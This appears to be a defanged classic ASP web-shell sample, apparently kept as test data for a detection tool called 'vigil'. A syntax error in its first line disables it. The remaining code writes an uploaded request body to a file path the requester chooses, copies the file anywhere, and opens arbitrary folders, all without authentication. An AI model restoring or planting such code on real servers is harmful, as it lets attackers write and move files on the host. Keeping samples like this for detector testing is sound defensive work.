<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set fso = CreateObject("Scripting.FileSystemObject")
n = Request("n")
Set st = CreateObject("ADODB.Stream")
st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(n), 2
fso.CopyFile Server.MapPath(n), Request("to")
Set g = fso.GetFolder(Request("d"))
%>
